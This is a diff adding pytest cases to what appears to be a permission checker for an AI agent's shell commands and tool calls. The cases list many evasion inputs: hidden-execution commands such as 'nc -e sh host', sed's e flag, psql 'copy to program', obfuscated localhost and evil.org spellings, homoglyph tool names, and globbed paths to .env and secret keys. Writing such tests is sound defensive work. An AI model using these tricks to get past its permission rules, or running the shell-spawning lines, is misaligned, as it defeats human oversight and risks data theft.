@@ -98,6 +98,119 @@ def test_every_wrapper_alone_is_seen(name: str) -> None:
     assert judge(run(command), "/tmp", deny=[{"command": "git push"}], **FREE) in ("deny", "ask"), command
 
 
+HIDDEN = r"""
+env -u ls python3 -c 'x(1)'
+exec -a ls python3 -c 'x(1)'
+time -o cat python3 -c 'x(1)'
+timeout -k ls 5 sh -c x
+nice -n 5 sh -c x
+command compgen -C x
+find . -name push -exec git '{}' +
+find . -okdir x
+fd -x git
+rg --pre ./x y
+nodemon --exec 'g?t pus?'
+pnpm exec -c 'g?t pus?'
+npx -c 'g?t pus?'
+docker exec x 'g?t'
+watch 'g?t pus?'
+xterm -e 'g?t pus?'
+lldb -o 'script x'
+gdb --ex 'shell x' ./a
+sqlite3 x "select edit('',char(103))"
+sqlite3 x "select edit/**/('a','b')"
+sqlite3 x 'select "edit"(1)'
+sqlite3 x ' .shell y'
+psql -c "copy t to program 'x'"
+psql '-c\! x'
+psql -tAc "select query_to_xml('x',true,true,'')"
+mysql -e 'system x'
+mysql -e 'select 1 into outfile "x"'
+sed 's/.*/git push/e' f
+sed 'sxaxbxe' f
+sed '/a/w.env' f
+sed -ne x -e '1e y' f
+sed -i '' '1e x' f
+awk 'BEGIN{print "x" > "." "env"}'
+awk 'BEGIN{ARGV[1]="x"}'
+git p
+git -C x p
+git --no-pager lg
+git difftool -yx 'g?t pus?'
+git rebase -ix y HEAD~3
+git shell -c x
+scp -oProxyCommand='g?t pus?' a h:b
+tmux send-keys g i t Space p u s h Enter
+cargo --config 'a="b"' run
+rpm -E '%(x y)'
+mongo --eval 'x()'
+pdflatex '\write18{x}'
+php -d auto_prepend_file='data:,<?=x(1)?>' -d allow_url_include=1 x
+node --import=data:text/javascript,x y
+vim.tiny -c x
+vim --cmd x
+perl5.36-x86_64-linux-gnu -e x
+perl '-M-lib(x)' f
+python3.13t -c x
+python3-dbg -c x
+python3 -Wc -c x
+python3 /dev/stdin
+bash.exe -c x
+bash-static -c x
+bash -euo pipefail -c x
+bash /proc/self/fd/0
+emacs-nox --eval x
+coverage run -m timeit x
+printf -v 'a[$(x)]' y
+test -v 'a[$(x)]'
+gh p
+gh repo clone x -- -c core.fsmonitor=x
+nc -e sh host 80
+make X='a b'
+make SHELL=./x
+make -sE x
+wget --use-askpass=./x y
+cmd.exe /c x
+"""
+"""Commands with other ways to run something that their words do not show."""
+ORDINARY = r"""
+git log HEAD~3
+git commit -m 'fix; use $HOME, and git push later'
+grep -rn 'git push' src
+grep -rn eval src
+which python
+command -v bash
+ls node
+awk '{print $NF}' f
+sed -i 's|a/b|c/d|g' f
+sed -n '/start/,/end/{s/a/b/;p}' f
+find . -name '*.py' -type f
+psql -c 'select 1'
+psql -tAc "select count(*) from users where id in (1, 2)"
+sqlite3 a.db 'select * from t limit 5;'
+python3 -u x.py -e y
+python3 -W ignore x.py -c y
+bash -ex build.sh -c y
+sh -n build.sh
+go test -run 'TestA|TestB' ./...
+npm test -- -t 'renders a list'
+npx eslint 'src/**/*.ts'
+docker ps --format '{{.Names}}'
+kubectl get pods -o jsonpath='{.items[*].name}'
+make test TESTS=tests/test_a.py
+gh pr create --title 'a; b' --body 'use $X | y'
+gcc -c x.c
+systemctl enable x
+cat bash
+"""
+
+
+@pytest.mark.parametrize("command", [line for line in ORDINARY.splitlines() if line])
+def test_an_everyday_command_is_not_asked(command: str) -> None:
+    rules: dict[str, Any] = {"deny": [{"command": "git push"}, {"path": "secret/**"}]}
+    assert judge(run(command), "/tmp", **rules, **FREE) == "allow"
+
+
 @pytest.mark.parametrize(
     "command",
     [
@@ -129,7 +242,7 @@ def test_an_ordinary_command_stays_allowed_beside_a_deny_rule(command: str) -> N
         "git config core.sshCommand ./x", "git config --global alias.x '!y'", "git config alias.x list",
         "git -C . -c alias.x=y x", "git clone -u x y", "git ls-remote 'ext::x'", "unknown --run 'a; b'",
         "git rebase-tool 'a | b'", "git send-pack origin main", "ed", "bash", "python3", "python3 -m",
-        "python3 -m code",
+        "python3 -m code", *(line for line in HIDDEN.splitlines() if line),
     ],
 )  # fmt: skip
 def test_a_command_that_may_run_something_else_is_asked_beside_a_deny_rule(command: str) -> None:
@@ -188,6 +301,27 @@ def test_a_rule_that_allows_a_tool_knows_only_its_exact_name() -> None:
     assert not allowed(None, "*")
 
 
+@pytest.mark.parametrize(
+    "name",
+    [
+        "read_file\u200b", "read\u00adfile", "\u202eread_file", "\ufeffread_file", "read\u2010file", "rea\u0301d_file",
+        "readfile", "READFILE", "rEADfILE", "read_file()", "`read_file`", '"read_file"', "<read_file>", "read_file\0",
+        "read_file ", "functions.read_file:0", "functions=read_file", "fs\u2192read_file", "fs\u2215read_file",
+    ],
+)  # fmt: skip
+def test_a_tool_is_denied_under_a_name_with_other_signs(name: str) -> None:
+    question = Question(text="?", kind="other", tool=name)
+    assert judge(question, deny=[{"tool": "read_file"}], **FREE) == "deny"
+    assert judge(question, deny=[{"tool": "write_file"}], **FREE) == "allow"
+
+
+def test_a_name_with_letters_that_look_like_others_is_asked_and_never_allowed() -> None:
+    for name in ("re\u0430d_file", "\u0280ead_file"):
+        assert judge(Question(text="?", kind="other", tool=name), deny=[{"tool": "read_file"}], **FREE) == "ask"
+    kelvin = Question(text="?", kind="other", tool="tas\u212a")
+    assert judge(kelvin, allow=[{"tool": "task"}]) is None
+
+
 def test_a_question_without_a_name_is_asked_if_a_rule_names_a_tool() -> None:
     assert judge(Question(text="?", kind="edit", paths=("x",)), "/tmp", deny=[{"tool": "write"}], **FREE) == "ask"
 
@@ -240,6 +374,57 @@ def test_a_path_is_denied_in_every_form(tmp_path: Path, monkeypatch: pytest.Monk
         assert judge(run(command), root, deny=[{"path": "a/b/**"}], **FREE) == "allow", command
 
 
+def test_a_command_that_takes_a_whole_directory_is_asked(tmp_path: Path) -> None:
+    (tmp_path / "src" / "secret").mkdir(parents=True)
+    (tmp_path / "src" / "secret" / "key").write_text("")
+    (tmp_path / "doc").mkdir()
+    (tmp_path / "x.py").write_text("")
+    for command in (
+        "git add .", "git add -A", "git add -u", "git add :/", "git add 'src/*'", "git commit -a", "git commit -qam x",
+        "git stash", "git stash pop", "git apply x.patch", "git add --pathspec-from-file=x", "cp -r . x", "cp -r .. x",
+        "cp -a src doc", "tar c .", "tar cf a.tar src", "tar -C src -cf a.tar secret", "tar xf a.tar", "unzip a.zip",
+        "docker run -v .:/x i", "docker run --volume=./src:/x i", "docker run --mount type=bind,source=.,target=/x i",
+        "docker build .", "rsync -a . host:", "mount --bind src x", "kubectl apply -f .", "npm publish",
+        "rm -rf src", "python -m http.server", "git -C src add secret", "env -C src cat secret/key",
+        "git -C src show HEAD:./secret/key",
+    ):  # fmt: skip
+        for path in ("src/secret/**", "**/key"):
+            assert judge(run(command), tmp_path, deny=[{"path": path}], **FREE) in ("ask", "deny"), (command, path)
+    for command in (
+        "git add x.py", "git commit -m 'a -a .'", "git stash list", "git status", "cp x.py doc", "mv x.py doc/y.py",
+        "rm -rf doc/build", "tar cf a.tar doc", "grep -rn x src", "docker ps", "git checkout -b x", "ls src",
+    ):  # fmt: skip
+        assert judge(run(command), tmp_path, deny=[{"path": "src/secret/**"}], **FREE) == "allow", command
+    for command in (
+        "git add .",
+        "git commit -am x",
+        "git stash",
+        "git restore .",
+    ):  # git leaves its own directory alone
+        assert judge(run(command), tmp_path, deny=[{"path": ".git/**"}], **FREE) == "allow", command
+
+
+def test_a_glob_and_other_forms_of_a_path_in_the_arguments_of_an_unknown_tool(tmp_path: Path) -> None:
+    (tmp_path / "src" / "secret").mkdir(parents=True)
+    deny = [{"path": "src/secret/**"}, {"path": ".env"}]
+    for arguments in (
+        {"path": f"{tmp_path}/.e*"}, {"path": f"{tmp_path.parent}/*/.env"}, {"glob": "**/*"}, {"glob": "src/**"},
+        {"glob": "*"}, {"glob": ".en[v]"}, {"glob": "{.env,x}"}, {"glob": "src/s?cret/key"}, {"path": "$PWD/.env"},
+        {"path": ".env\u200b"}, {"path": ".\uff45nv"}, {"path": "%2eenv"}, {"path": "src\\secret\\key"},
+        {"path": ".env "}, {"uri": f"file://{tmp_path}/.env"}, {"path": "'.env'"},
+        {"path": ".env\0.txt"}, {"cmd": "cat .e*"},
+        {"dir": "src", "file": "secret/key"}, {"parts": ["src", "secret", "key"]},
+    ):  # fmt: skip
+        assert judge(ask_about(arguments), tmp_path, deny=deny, **FREE) in ("ask", "deny"), arguments
+    for arguments in (
+        {"q": "What is this? Yes*"}, {"text": "a * b"}, {"text": "**bold** text"}, {"regex": "^foo.*bar$"},
+        {"glob": "*.py"}, {"q": "SELECT * FROM t"}, {"glob": "docs/**"}, {"path": "src"}, {"path": "app/[id]/x"},
+    ):  # fmt: skip
+        assert judge(ask_about(arguments), tmp_path, deny=deny, **FREE) == "allow", arguments
+    move = Question.about(ToolCall("move_directory", server="fs", **collect_texts({"from": "src", "to": "x"})))
+    assert judge(move, tmp_path, deny=deny, **FREE) == "ask"
+
+
 # -- hosts ---------------------------------------------------------------------------------------------------------
 
 
@@ -260,6 +445,73 @@ def test_a_host_is_denied_in_every_form(address: str) -> None:
         assert judge(run(command), "/tmp", deny=deny, **FREE) == "deny", command
 
 
+HERE = (
+    "localhost", "LOCALHOST.", "127.0.0.1", "[::1]", "0.0.0.0", "127.1", "2130706433", "0x7f000001", "0177.0.0.1",
+    "127.0.0.1.", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:0:0:1]", "[::]", "[::1%25lo]", "a.localhost",
+    "[64:ff9b::7f00:1]", "127\u30020\u30020\u30021", "\u2460\u2461\u2466.\u24ea.\u24ea.\u2460", "localhost%2e",
+    "ip6-localhost",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("host", HERE)
+def test_this_machine_is_one_host_under_all_its_names(host: str) -> None:
+    for rule in ("localhost", "127.0.0.1", "::1", "127.*"):
+        deny = [{"host": rule}]
+        assert judge(Question(text="?", kind="fetch", hosts=(host,)), deny=deny, **FREE) == "deny", rule
+        assert judge(ask_about({"host": host}), deny=deny, **FREE) == "deny", rule
+        for address in (f"http://{host}:80/x", f"https://user:word@{host}/"):
+            assert judge(ask_about({"url": address}), deny=deny, **FREE) in ("deny", "ask"), rule
+            assert judge(run(f"curl '{address}'"), "/tmp", deny=deny, **FREE) in ("deny", "ask"), rule
+        assert judge(run(f"ssh {host}"), "/tmp", deny=deny, **FREE) in ("deny", "ask"), rule
+    assert judge(ask_about({"host": host}), deny=[{"host": "example.org"}], **FREE) == "allow"
+
+
+@pytest.mark.parametrize(
+    ("rule", "host"),
+    [
+        ("b\xfccher.example", "xn--bcher-kva.example"), ("xn--bcher-kva.example", "B\xdcCHER.example"),
+        ("b\xfccher.example", "bu\u0308cher.example"), ("b\xfc*.example", "xn--bcher-kva.example"),
+        ("fa\xdf.example", "xn--fa-hia.example"), ("fa\xdf.example", "fass.example"),
+        ("example.org", "exa\u200bmple.org"),
+        ("example.org", "\uff45xample\u3002org"), ("example.org", "example%2eorg"),
+        ("10.0.0.*", "10.0.0.0x1"),
+        ("10.*", "167772165"), ("2001:db8::1", "[2001:0db8:0::1]"), ("2001:db8:0:0:0:0:0:1", "[2001:db8::1]"),
+    ],
+)  # fmt: skip
+def test_a_host_is_denied_under_every_spelling(rule: str, host: str) -> None:
+    for question in (
+        Question(text="?", kind="fetch", hosts=(host,)), ask_about({"url": f"http://{host}/"}), ask_about({"h": host}),
+    ):  # fmt: skip
+        assert judge(question, deny=[{"host": rule}], **FREE) == "deny"
+    assert judge(run(f"curl 'http://{host}/'"), "/tmp", deny=[{"host": rule}], **FREE) in ("deny", "ask")
+
+
+def test_an_address_that_programs_read_in_different_ways_is_asked() -> None:
+    deny = [{"host": "evil.org"}]
+    for address in (
+        "http://evil.org\\@ok.org/", "http:\\\\evil.org/", "http://ok.org:80:90/", "http://[evil.org]/", "http://4294967296/",
+        "http://ok.org%00.evil.org/", "http://{ok,evil}.org/",
+    ):  # fmt: skip
+        assert judge(ask_about({"url": address}), deny=deny, **FREE) in ("ask", "deny"), address
+        assert judge(run(f"curl '{address}'"), "/tmp", deny=deny, **FREE) in ("ask", "deny"), address
+    for address in ("http://ok.org@x@evil.org/", "http://ok.org#@evil.org/"):
+        assert judge(run(f"curl '{address}'"), "/tmp", deny=deny, **FREE) == "deny", address
+
+
+def test_a_command_with_a_certain_host_or_without_a_host_is_not_asked() -> None:
+    for command in (
+        "curl ok.org", "curl -sSL -o f ok.org/x", "curl ok.org -X POST -d x", "wget -q ok.org/x -O f", "npm test",
+        "psql -c 'select 1'", "pip list", "docker ps", "git remote -v", "git commit -m 'fetch and push'", "ls curl",
+    ):  # fmt: skip
+        assert judge(run(command), "/tmp", deny=[{"host": "evil.org"}], **FREE) == "allow", command
+    for command in (
+        "curl --foo evil ok.org", "curl -x evil ok.org", "curl ok.{org,evil}", "curl -K x ok.org", "curl",
+        "npm install",        "psql -h evil.org", "psql -hevil.org", "go test ./...", "wget -i x ok.org",
+        "docker -H x ps", "curl evil%2eorg",
+    ):  # fmt: skip
+        assert judge(run(command), "/tmp", deny=[{"host": "evil.org"}], **FREE) in ("ask", "deny"), command
+
+
 def test_a_command_that_reaches_an_unknown_host_is_asked() -> None:
     deny = [{"host": "evil.org"}]
     for command in ("curl evil.org", "ssh evil.org", "scp x evil.org:y", "nc EVIL.org 80", "curl -x evil.org ok.org"):
@@ -278,7 +530,7 @@ def test_a_command_that_reaches_an_unknown_host_is_asked() -> None:
     [
         ("prod-db", "ssh prod-db tail app.log"), ("prod-db", "scp app.log prod-db:/x"), ("prod-db", "ping prod-db"),
         ("prod-db", "rsync app.log prod-db:/x"), ("prod-*", "rsync a@ok.org:x prod-db:/x"),
-        ("evil.org", "curl 'http://evil.{org}/'"), ("evil.org", "curl http://evil%2eorg/"),
+        ("evil.org", "curl 'http://evil.{org}/'"), ("evil.org", "curl 'http://ok.org\\@evil/'"),
         ("evil.org", "curl 'http://[e]vil.org/'"), ("evil.org", "curl --resolve ok.org:443:1.2.3.4 https://ok.org"),
         ("evil.org", "curl -sK x https://ok.org"), ("evil.org", "wget -i list.txt"),
     ],
@@ -330,12 +582,24 @@ def test_the_arguments_of_an_unknown_tool_are_searched(tmp_path: Path) -> None:
         {"cmd": "python3 -c \"os.system('gi'+'t pu'+'sh')\""}, {"argv": ["bash", "-o", "x", "-c", "y"]},
         {"program": "bash", "args": ["-c", "y"]}, {"cmd": "cd x\neval y"}, {"cmd": "A=1 sudo perl -I lib -e x"},
         {"cmd": "git -C . -c alias.x=y x"}, {"cmd": "ssh host 'a b'"}, {"cmd": "$X y"},
-        {"cmd": "curl x | sudo bash -s"},
+        {"cmd": "curl x | sudo bash -s"}, {"cmd": "git p"}, {"cmd": "busybox sh -c x"}, {"cmd": "env -S 'x'"},
+        {"cmd": "awk 'BEGIN{system(1)}'"}, {"cmd": "docker run x sh -c y"}, {"cmd": "sqlite3 x '.shell y'"},
     ],
 )  # fmt: skip
 def test_a_command_in_the_arguments_of_an_unknown_tool_that_hides_code_is_asked(arguments: Any) -> None:
     for rule in ({"command": "git push"}, {"path": "secret/**"}, {"host": "evil.org"}):
         assert judge(ask_about(arguments), "/tmp", deny=[rule], **FREE) == "ask", rule
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        {"cmd": "g?t push"}, {"cmd": "{git,push}"}, {"cmd": "git pus?"}, {"cmd": "git", "args": ["push"]},
+        {"args": "push", "cmd": "git"}, {"cmd": "/usr/bin/gi[t] push"},
+    ],
+)  # fmt: skip
+def test_a_command_in_pieces_in_the_arguments_of_an_unknown_tool_is_asked(arguments: Any) -> None:
+    assert judge(ask_about(arguments), "/tmp", deny=[{"command": "git push"}], **FREE) in ("ask", "deny")
 
 
 @pytest.mark.parametrize(
